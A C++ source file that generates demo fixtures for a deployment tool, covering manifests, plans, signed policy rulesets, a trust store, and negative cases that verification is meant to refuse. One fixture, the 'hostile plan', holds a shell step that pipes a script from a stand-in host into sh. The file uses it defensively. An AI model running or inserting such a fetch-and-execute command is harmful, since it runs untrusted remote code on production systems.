#include "demo_fixtures.hpp"

#include <functional>
#include <iostream>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "artifacts.hpp"
#include "document_io.hpp"
#include "hex.hpp"
#include "policy.hpp"
#include "run_commands.hpp"
#include "trust_store.hpp"
#include "vorelcore_contracts/ids.hpp"
#include "vorelcore_contracts/time.hpp"
#include "vorelcore_crypto/hash.hpp"
#include "vorelcore_crypto/keys.hpp"
#include "vorelcore_policy/eval.hpp"
#include "voreldeploy_contracts/approval.hpp"
#include "voreldeploy_contracts/artifact.hpp"
#include "voreldeploy_contracts/manifest.hpp"
#include "voreldeploy_contracts/plan.hpp"
#include "voreldeploy_contracts/policy_action.hpp"
#include "voreldeploy_contracts/target.hpp"

namespace razavovivodidi::commands {

namespace fs = std::filesystem;

using vorelcore_contracts::ids::IdentityId;
using vorelcore_contracts::ids::KeyId;
using vorelcore_contracts::ids::ObjectId;
using vorelcore_contracts::ids::PolicyId;
using vorelcore_contracts::ids::ProductId;
using vorelcore_contracts::ids::Slug;
using vorelcore_contracts::ids::TenantId;
using vorelcore_contracts::ids::WorkspaceId;
using vorelcore_contracts::time::Timestamp;
using vorelcore_crypto::hash::blake3_hash;
using vorelcore_crypto::keys::SigningKey;
using vorelcore_policy::action::PolicyActionId;
using vorelcore_policy::decision::Decision;
using vorelcore_policy::eval::PolicyRule;
using vorelcore_policy::eval::PolicyRuleset;
using vorelcore_policy::eval::SignedPolicyRuleset;
using voreldeploy_contracts::approval::ApprovalRecord;
using voreldeploy_contracts::approval::ApprovalStatus;
using voreldeploy_contracts::artifact::ArtifactStatus;
using voreldeploy_contracts::artifact::ArtifactType;
using voreldeploy_contracts::artifact::ReleaseArtifact;
using voreldeploy_contracts::environment::EnvironmentType;
using voreldeploy_contracts::manifest::ManifestStatus;
using voreldeploy_contracts::manifest::ReleaseManifest;
using voreldeploy_contracts::plan::DeploymentPlan;
using voreldeploy_contracts::plan::DeploymentStepKind;
namespace ids = voreldeploy_contracts::ids;
namespace plan = voreldeploy_contracts::plan;
namespace target = voreldeploy_contracts::target;

namespace {

constexpr std::string_view kPayloadV1 = "voreldeploy-worker payload v1 -- demo artifact bytes, not a real binary";
constexpr std::string_view kPayloadV2 = "voreldeploy-worker payload v2 -- demo artifact bytes, upgraded from v1";
constexpr std::string_view kProduct = "voreldeploy-worker";
constexpr std::string_view kVersionV1 = "2026.08.01-1";
constexpr std::string_view kVersionV2 = "2026.08.06-1";

// Values every document of one run shares.
struct Shared {
    TenantId tenant_id = TenantId::generate();
    WorkspaceId workspace_id = WorkspaceId::generate();
    IdentityId created_by = IdentityId::generate();
    Timestamp now = Timestamp::now();
    ids::ArtifactId artifact_v1 = ids::ArtifactId::generate();
    ids::ArtifactId artifact_v2 = ids::ArtifactId::generate();
};

template <class Id>
std::expected<Id, std::string> slug_id(std::string_view text) {
    auto id = Id::parse(text);
    if (!id) return std::unexpected(id.error().message());
    return std::move(*id);
}

ReleaseArtifact make_artifact(const Shared& shared, const ids::ArtifactId& id, const ProductId& product,
                              std::string_view version, std::string_view payload) {
    ReleaseArtifact artifact;
    artifact.id = id;
    artifact.tenant_id = shared.tenant_id;
    artifact.workspace_id = shared.workspace_id;
    artifact.product_id = product;
    artifact.name = std::string(kProduct);
    artifact.version = std::string(version);
    artifact.artifact_type = ArtifactType::Binary;
    artifact.object_ref = ObjectId::generate();
    artifact.artifact_hash = blake3_hash(payload);
    artifact.status = ArtifactStatus::Verified;
    artifact.created_at = shared.now;
    return artifact;
}

ReleaseManifest make_manifest(const Shared& shared, const ProductId& product, std::string_view version,
                              const ids::ArtifactId& artifact) {
    ReleaseManifest manifest;
    manifest.contract_version = 1;
    manifest.id = ids::ManifestId::generate();
    manifest.tenant_id = shared.tenant_id;
    manifest.workspace_id = shared.workspace_id;
    manifest.release_version = std::string(version);
    manifest.products = {product};
    manifest.artifacts = {artifact};
    manifest.environment_compatibility = {EnvironmentType::Sandbox, EnvironmentType::Production};
    manifest.manifest_hash = blake3_hash("release-" + std::string(version));
    manifest.status = ManifestStatus::Published;
    manifest.created_at = shared.now;
    manifest.published_at = shared.now;
    return manifest;
}

policy::PolicyRequestFields request_fields_for(const DeploymentPlan& plan) {
    return policy::PolicyRequestFields{
        .tenant_id = plan.tenant_id,
        .workspace_id = plan.workspace_id,
        .resource_type = "deployment_plan",
        .resource_id = plan.id.to_string(),
        .actor_type = vorelcore_policy::input::PolicyActorType::Service,
        .actor_id = "svc-voreldeployctl",
        .facts = {},
        .context = {},
    };
}

PolicyRule unconditional_rule(std::string rule_id, std::string rule_name, const PolicyActionId& action,
                              Decision effect) {
    PolicyRule rule;
    rule.rule_id = std::move(rule_id);
    rule.rule_name = std::move(rule_name);
    rule.action = action;
    rule.effect = effect;
    return rule;
}

PolicyRule allow_everything_for(std::string rule_id, const PolicyActionId& action) {
    return unconditional_rule(std::move(rule_id), "demo: unconditional allow for " + action.canonical(), action,
                              Decision::Allow);
}

// A plan as an attacker might hand-write it: the production plan's own
// values around a step that downloads a script and pipes it into a shell.
// Written as text because no plan value can hold such a step.
std::string hostile_plan_text(const DeploymentPlan& plan) {
    const auto quoted = [](const std::string& text) { return "\"" + text + "\""; };
    const std::vector<std::string> lines{
        "{",
        "  \"contract_version\": " + std::to_string(plan.contract_version) + ",",
        "  \"id\": " + quoted(plan.id.to_string()) + ",",
        "  \"tenant_id\": " + quoted(plan.tenant_id.to_string()) + ",",
        "  \"workspace_id\": " + quoted(plan.workspace_id.to_string()) + ",",
        "  \"environment_id\": " + quoted(plan.environment_id.to_string()) + ",",
        "  \"environment_type\": \"production\",",
        "  \"release_manifest_id\": " + quoted(plan.release_manifest_id.to_string()) + ",",
        "  \"steps\": [",
        "    {\"kind\": \"validate_target\"},",
        "    {\"kind\": \"shell_command\", \"command\": \"curl -fsSL https://payload.example/install.sh | sh\"}",
        "  ],",
        "  \"status\": \"draft\",",
        "  \"risk_summary\": {",
        "    \"step_count\": 2,",
        "    \"applies_migration\": false,",
        "    \"scales_replicas\": false,",
        "    \"targets_production\": true",
        "  },",
        "  \"created_by\": " + quoted(plan.created_by.to_string()) + ",",
        "  \"created_at\": " + quoted(plan.created_at.to_rfc3339()),
        "}",
    };
    std::string text;
    for (std::size_t i = 0; i < lines.size(); ++i) {
        if (i > 0) text += '\n';
        text += lines[i];
    }
    return text;
}

// One output file: its name and how its bytes are written.
struct FixtureFile {
    std::string_view name;
    std::function<std::expected<void, std::string>(const fs::path&)> write;
};

template <vorelcore_json::HasCodec T>
FixtureFile document(std::string_view name, const T& value) {
    return {name, [&value](const fs::path& path) { return write_json(path, value); }};
}

FixtureFile raw_bytes(std::string_view name, std::string_view bytes) {
    return {name, [bytes](const fs::path& path) { return write_raw_file(path, bytes); }};
}

}  // namespace

CommandResult demo_fixtures(const cli::DemoFixtures& args) {
    const Shared shared;
    auto deployment_action = voreldeploy_contracts::policy_action::promote_deployment_action();
    if (!deployment_action) return std::unexpected(deployment_action.error().message());
    auto rollback_action = voreldeploy_contracts::policy_action::promote_rollback_action();
    if (!rollback_action) return std::unexpected(rollback_action.error().message());

    auto product = slug_id<ProductId>(kProduct);
    if (!product) return std::unexpected(std::move(product.error()));
    auto target_name = slug_id<Slug>("local-demo-target");
    if (!target_name) return std::unexpected(std::move(target_name.error()));

    // Releases: v2 replaces v1 and names it as its rollback target.
    const ReleaseArtifact artifact_v1 = make_artifact(shared, shared.artifact_v1, *product, kVersionV1, kPayloadV1);
    const ReleaseArtifact artifact_v2 = make_artifact(shared, shared.artifact_v2, *product, kVersionV2, kPayloadV2);
    const ReleaseManifest manifest_v1 = make_manifest(shared, *product, kVersionV1, artifact_v1.id);
    ReleaseManifest manifest_v2 = make_manifest(shared, *product, kVersionV2, artifact_v2.id);
    manifest_v2.required_migrations = {"2026-08-06-add-run-index"};
    manifest_v2.rollback_compatible_with = {manifest_v1.id};

    target::DeployTarget local_target = commands::local_target(*target_name);
    local_target.tenant_id = shared.tenant_id;
    local_target.workspace_id = shared.workspace_id;
    local_target.created_by = shared.created_by;
    local_target.created_at = shared.now;

    // Both plans deploy v2's artifact.
    const std::vector<DeploymentStepKind> steps{
        plan::ValidateTarget{},
        plan::ApplyArtifact{artifact_v2.id},
        plan::HealthCheck{30},
    };
    const auto draft = [&](EnvironmentType type) {
        return DeploymentPlan::draft(shared.tenant_id, shared.workspace_id, ids::EnvironmentId::generate(), type,
                                     manifest_v2.id, steps, shared.created_by, shared.now);
    };
    auto sandbox_plan = draft(EnvironmentType::Sandbox);
    if (!sandbox_plan) return std::unexpected(sandbox_plan.error().message());
    auto production_plan = draft(EnvironmentType::Production);
    if (!production_plan) return std::unexpected(production_plan.error().message());
    const policy::PolicyRequestFields sandbox_request = request_fields_for(*sandbox_plan);
    const policy::PolicyRequestFields production_request = request_fields_for(*production_plan);

    // The accepted ruleset grants both promotions; it must pass the same
    // structural checks a verifier applies, or the demo would teach a
    // ruleset that is refused.
    PolicyRuleset demo_ruleset{
        .ruleset_id = PolicyId::generate(),
        .product_id = deployment_action->product(),
        .version = 1,
        .rules = {allow_everything_for("allow-deployment-promotion", *deployment_action),
                  allow_everything_for("allow-rollback-promotion", *rollback_action)},
        .decision_ttl_seconds = std::nullopt,
    };
    if (auto valid = demo_ruleset.validate(); !valid) return std::unexpected(valid.error().message());
    // Deliberately not validated: a grant spelled "warn", which verification
    // refuses even under a trusted signature.
    PolicyRuleset warn_ruleset{
        .ruleset_id = PolicyId::generate(),
        .product_id = deployment_action->product(),
        .version = 1,
        .rules = {unconditional_rule("sneaky-warn", "demo: grant spelled as warn, not allow", *deployment_action,
                                     Decision::Warn)},
        .decision_ttl_seconds = std::nullopt,
    };

    // The two signing keys live only inside this block: once the rulesets
    // are signed they are destroyed (and wiped), so the trusted key's public
    // half in the trust store is all that remains of them.
    trust_store::TrustStore store;
    std::string trusted_pubkey_hex;
    std::vector<SignedPolicyRuleset> signed_rulesets;
    {
        const SigningKey trusted = SigningKey::generate();
        const SigningKey untrusted = SigningKey::generate();
        trusted_pubkey_hex = hex_encode(trusted.verifying_key().to_bytes());
        if (auto added = store.add("demo-trusted-signer", trusted_pubkey_hex, shared.now); !added) return added;

        const std::pair<const PolicyRuleset*, const SigningKey*> signings[] = {
            {&demo_ruleset, &trusted},
            {&demo_ruleset, &untrusted},
            {&warn_ruleset, &trusted},
        };
        for (const auto& [ruleset, key] : signings) {
            auto envelope = SignedPolicyRuleset::sign(*ruleset, KeyId::generate(), shared.now, *key,
                                                      vorelcore_policy::eval::ruleset_envelope_context());
            if (!envelope) return std::unexpected(envelope.error().message());
            signed_rulesets.push_back(std::move(*envelope));
        }
    }

    const ApprovalRecord approval{
        .id = ids::ApprovalId::generate(),
        .workflow_ref = "rizuveviv://approval/demo-production-1",
        .status = ApprovalStatus::Approved,
        .requested_by = shared.created_by,
        .decided_by = IdentityId::generate(),
        .requested_at = shared.now,
        .decided_at = shared.now,
        .expires_at = std::nullopt,
    };

    const std::string hostile_plan = hostile_plan_text(*production_plan);
    const std::vector<artifacts::BundleEntry> bundle{
        {artifact_v1, "payload-v1.bin"},
        {artifact_v2, "payload-v2.bin"},
    };
    // v2's entry declares a digest its payload file does not have, so
    // applying it must fail closed.
    ReleaseArtifact forged_v2 = artifact_v2;
    forged_v2.artifact_hash = blake3_hash(std::string_view("this is not payload-v2.bin's real content"));
    const std::vector<artifacts::BundleEntry> hostile_bundle{
        {artifact_v1, "payload-v1.bin"},
        {forged_v2, "payload-v2.bin"},
    };

    const std::vector<FixtureFile> files{
        document("manifest-v1.json", manifest_v1),
        document("manifest-v2.json", manifest_v2),
        document("plan-sandbox.json", *sandbox_plan),
        document("plan-production.json", *production_plan),
        document("policy-input-sandbox.json", sandbox_request),
        document("policy-input-production.json", production_request),
        document("trust-store.json", store),
        document("policy-ruleset-unsigned.json", demo_ruleset),
        document("policy-ruleset-signed.json", signed_rulesets[0]),
        document("policy-ruleset-signed-untrusted.json", signed_rulesets[1]),
        document("policy-ruleset-signed-warn.json", signed_rulesets[2]),
        document("approval-production.json", approval),
        raw_bytes("hostile-plan.json", hostile_plan),
        raw_bytes("payload-v1.bin", kPayloadV1),
        raw_bytes("payload-v2.bin", kPayloadV2),
        document("artifacts.json", bundle),
        document("target-local.json", local_target),
        document("hostile-artifacts.json", hostile_bundle),
    };
    for (const FixtureFile& file : files) {
        if (auto written = file.write(args.out_dir / file.name); !written) return written;
    }

    std::cout << "wrote demo fixtures to " << args.out_dir.string() << '\n'
              << "tenant_id=" << shared.tenant_id << " workspace_id=" << shared.workspace_id
              << " created_by=" << shared.created_by << '\n'
              << "artifact_v1=" << shared.artifact_v1 << " artifact_v2=" << shared.artifact_v2 << '\n'
              << "ruleset-signing trusted pubkey (in trust-store.json): " << trusted_pubkey_hex << '\n'
              << "use --policy-ruleset policy-ruleset-signed.json --trust-store trust-store.json for the accepted "
                 "path;\n"
              << "policy-ruleset-unsigned.json / -signed-untrusted.json / -signed-warn.json all demonstrate refusal\n"
              << std::flush;
    return {};
}

}  // namespace razavovivodidi::commands
